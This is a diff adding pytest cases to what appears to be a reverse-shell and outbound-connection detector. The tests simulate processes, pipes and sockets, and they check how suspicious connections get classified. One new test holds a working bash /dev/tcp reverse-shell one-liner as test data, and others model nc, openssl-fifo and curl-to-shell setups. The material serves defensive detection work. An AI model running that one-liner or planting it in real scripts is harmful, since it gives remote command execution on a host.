@@ -137,6 +137,16 @@ def test_who_goes_out(live: FakeLive, exe: bytes, state: str, verdict: Verdict) 
     assert "203.0.113.66:443" in item.says
 
 
+@pytest.mark.parametrize(("age", "verdict"), [(600, Verdict.SUSPICIOUS), (2, Verdict.NOTABLE)])
+def test_a_shell_that_connects_by_itself(live: FakeLive, age: int, verdict: Verdict) -> None:
+    """`</dev/tcp/HOST/PORT` is how scripts see whether a port is open, too; for a moment."""
+    code = b"exec 5<>/dev/tcp/203.0.113.66/443; while read -u 5 x; do eval $x; done"
+    shell = live.add_process(b"/usr/bin/bash", age=age, argv=(b"bash", b"-c", code))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, shell)
+    (item,) = found(live).of(verdict)
+    assert item.name.startswith("outbound tcp /usr/bin/bash")
+
+
 def test_a_tool_that_pipes_its_connection_into_a_shell(live: FakeLive) -> None:
     nc = live.add_process(b"/usr/bin/nc", age=30, session=77)
     live.connect("tcp", 41000, b"203.0.113.66", 443, nc)
@@ -171,6 +181,47 @@ def test_a_shell_behind_a_pair_of_sockets_of_its_parent(live: FakeLive) -> None:
         piped(live, (b"sh", b"-i"), b"socket:[5]", b"socket:[5]", parent=parent)
     (item,) = found(live).of(Verdict.NOTABLE)
     assert item.name.startswith("outbound tcp /usr/bin/python3.11")
+
+
+@pytest.mark.parametrize("ends", [(b"pipe:[5]", b"pipe:[6]"), (b"socket:[5]", b"socket:[5]")])
+def test_a_shell_that_is_given_its_commands_by_its_parent(live: FakeLive, ends: tuple[bytes, bytes]) -> None:
+    """Also while it runs one of them."""
+    agent = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, agent)
+    shell = piped(live, (b"bash",), *ends, parent=agent)
+    live.come_from(live.add_process(b"/usr/bin/sleep", age=3, parent=shell), streams=(*ends, ends[1]))
+    (item,) = found(live).of(Verdict.NOTABLE)
+    assert item.name.startswith("outbound tcp /usr/bin/python3.11")
+    assert f"pid {shell}, a shell that is given its commands" in item.says
+
+
+def test_a_shell_behind_a_fifo_that_was_not_told_to_ask(live: FakeLive) -> None:
+    piped(live, (b"sh",), b"/tmp/f", b"pipe:[6]")
+    client = live.add_process(b"/usr/bin/openssl", age=30)
+    live.come_from(client, streams=(b"pipe:[6]", b"/tmp/f", NULL))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
+    assert "outbound tcp /usr/bin/openssl (root)" in [one.name for one in found(live).of(Verdict.NOTABLE)]
+
+
+@pytest.mark.parametrize("stdout", [b"pipe:[6]", b"socket:[7]", b"/var/log/x"])
+def test_a_download_that_is_piped_into_a_shell_of_a_service(live: FakeLive, stdout: bytes) -> None:
+    """Who hears the answers is another one than who gives the commands."""
+    service = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
+    live.come_from(service, streams=(NULL, stdout, NULL))
+    live.connect("tcp", 41001, b"203.0.113.7", 443, service)
+    client = live.add_process(b"/usr/bin/curl", age=30, parent=service)
+    live.come_from(client, streams=(NULL, b"pipe:[5]", NULL))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
+    piped(live, (b"sh",), b"pipe:[5]", stdout, parent=service)
+    assert {item.verdict for item in found(live).items} == {Verdict.FINE}
+
+
+def test_a_shell_at_a_terminal_whose_output_is_piped(live: FakeLive) -> None:
+    piped(live, (b"bash", b"-i"), b"/dev/pts/3", b"pipe:[6]")
+    client = live.add_process(b"/usr/bin/openssl", age=30)
+    live.come_from(client, streams=(b"pipe:[6]", b"/dev/pts/3", NULL))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
+    assert {item.verdict for item in found(live).items} == {Verdict.FINE}
 
 
 @pytest.mark.parametrize(
